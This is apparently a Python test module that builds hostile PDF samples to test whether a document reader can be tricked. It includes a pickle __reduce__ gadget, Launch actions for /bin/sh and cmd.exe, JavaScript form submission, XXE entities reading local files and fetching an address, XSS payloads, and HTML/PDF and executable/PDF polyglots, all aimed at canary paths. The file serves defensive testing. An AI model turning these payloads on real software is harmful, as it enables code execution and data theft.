"""PDF files that ask a reader to run, fetch, open or show something that is none of theirs."""

import pickle

from tests.hostile.pdf_writing import WORDS, Body, deflated, one_page, stream
from tests.hostile.sample import EXPANDED, Family, Traps

PDF_TRAPS = Family("T5", ".pdf")


class _Touches:
    """What makes a file when it is unpickled."""

    def __init__(self, path: str) -> None:
        self._path = path

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return open, (self._path, "w")


def canary_pickle(traps: Traps) -> bytes:
    """Return a pickle that makes the canary when it is opened."""
    return pickle.dumps(_Touches(str(traps.canary)))


@PDF_TRAPS.file("read", "unread", short=True)
def character_map_from_elsewhere(traps: Traps) -> bytes:
    """A font whose map of characters is named as a path, which one reader was led to unpickle."""
    path = str(traps.canary).replace("/", "#2F")
    return one_page(
        more={
            4: f"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /#2F..#2F..#2F{path} "
            "/DescendantFonts [6 0 R] /ToUnicode /" + path + " >>",
            6: "<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /CIDSystemInfo "
            f"<< /Registry (Adobe) /Ordering ({traps.canary}) /Supplement 0 >> >>",
        }
    )


@PDF_TRAPS.file("read", "unread", "refused", file_name="pickle.pdf")
def pickle_named_pdf(traps: Traps) -> bytes:
    return canary_pickle(traps)


@PDF_TRAPS.file("read", "unread")
def pickle_attached(traps: Traps) -> bytes:
    files = "/Names << /EmbeddedFiles << /Names [(minutes.pickle) 6 0 R] >> >>"
    return one_page(
        catalog=files,
        more={6: "<< /Type /Filespec /F (minutes.pickle) /EF << /F 7 0 R >> >>", 7: stream(canary_pickle(traps))},
    )


def _with_action(action: str, extra: dict[int, Body] | None = None) -> bytes:
    link = f"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A {action} >>"
    return one_page(catalog=f"/OpenAction {action}", page=f"/AA << /O {action} >> /Annots [{link}]", more=extra)


_ACTIONS = {
    "javascript": "<< /S /JavaScript /JS (this.submitForm\\('{address}'\\); app.launchURL\\('{address}'\\);) >>",
    "launch": "<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c echo > {canary}) >> >>",
    "uri": "<< /S /URI /URI ({address}) >>",
    "submit_form": "<< /S /SubmitForm /F << /FS /URL /F ({address}) >> /Flags 4 >>",
    "import_data": "<< /S /ImportData /F ({secret}) >>",
    "go_to_remote": "<< /S /GoToR /F ({secret}) /D [0 /Fit] >>",
    "go_to_embedded": "<< /S /GoToE /F << /FS /URL /F ({address}) >> /D [0 /Fit] >>",
    "rendition": "<< /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >>",
    "movie": "<< /S /Movie /Operation /Play /T ({address}) >>",
    "chain": "<< /S /URI /URI ({address}) /Next << /S /Named /N /Print /Next << /S /Named /N /Print >> >> >>",
}


def _add_actions() -> None:
    for name, action in _ACTIONS.items():

        def make(traps: Traps, action: str = action) -> bytes:
            filled = action.replace("{address}", traps.address).replace("{canary}", str(traps.canary))
            return _with_action(filled.replace("{secret}", str(traps.secret)))

        PDF_TRAPS.add(f"action_{name}", make, "read", threat="T13", short=name == "javascript")


_add_actions()


@PDF_TRAPS.file("read", "unread", threat="T13", short=True)
def stream_kept_in_another_file(traps: Traps) -> bytes:
    """The page's content, its font and a picture are said to be files of this machine."""
    outside = f"/F ({traps.secret}) /FFilter []"
    picture = (
        f"/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 {outside}"
    )
    return one_page(content=stream("", outside), more={6: stream("", picture), 7: stream("", outside)})


@PDF_TRAPS.file("read", threat="T13")
def reference_to_a_page_elsewhere(traps: Traps) -> bytes:
    form = f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F << /FS /URL /F ({traps.address}) >> /Page 0 >>"
    return one_page(page="/XObject << /X 6 0 R >>", more={6: stream(f"({WORDS}) Tj", form)})


@PDF_TRAPS.file("read", "unread", threat="T14", short=True)
def form_with_entities(traps: Traps) -> bytes:
    """A form kept as XML, whose entities point to a file of this machine and to an address."""
    form = (
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "{EXPANDED}"><!ENTITY s SYSTEM "file://{traps.secret}">'
        f'<!ENTITY % r SYSTEM "{traps.address}"> %r;]><xdp:xdp xmlns:xdp="urn:xdp"><a>&a;&s;</a></xdp:xdp>'
    )
    return one_page(catalog="/AcroForm << /Fields [] /XFA 6 0 R >>", more={6: stream(form)})


@PDF_TRAPS.file("read", "unread", threat="T14")
def details_with_entities(traps: Traps) -> bytes:
    """The details that are kept as XML hold entities, plain and packed."""
    details = (
        f'<!DOCTYPE x [<!ENTITY a "{EXPANDED}"><!ENTITY s SYSTEM "file://{traps.secret}">]>'
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        '<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>&a;&s;</dc:creator>'
        "</rdf:Description></rdf:RDF></x:xmpmeta>"
    )
    kind = "/Type /Metadata /Subtype /XML"
    return one_page(catalog="/Metadata 6 0 R", more={6: stream(details, kind), 7: deflated(details, kind)})


@PDF_TRAPS.file("read", "unread", threat="T6", short=True)
def scripts_in_words_and_properties(traps: Traps) -> bytes:
    shown = f"<script>{traps.script}</script><img src=x onerror={traps.script}>".replace("(", "\\(").replace(
        ")", "\\)"
    )
    return one_page(
        content=f"BT /F1 11 Tf 14 TL 50 780 Td ({shown}) Tj ET",
        more={6: f'<< /Title ({shown}) /Author ({shown}) /Subject ("><svg onload={shown}>) >>'},
        trailer="/Info 6 0 R",
    )


@PDF_TRAPS.file("read", "unread", "refused", threat="T6", file_name="both.html")
def page_and_pdf_in_one(traps: Traps) -> bytes:
    return f"<html><script>{traps.script}</script><!--".encode() + one_page() + b"-->"


@PDF_TRAPS.file("read", "unread", "refused")
def program_and_pdf_in_one(traps: Traps) -> bytes:
    del traps
    return b"MZ" + b"\x90" * 60 + one_page()
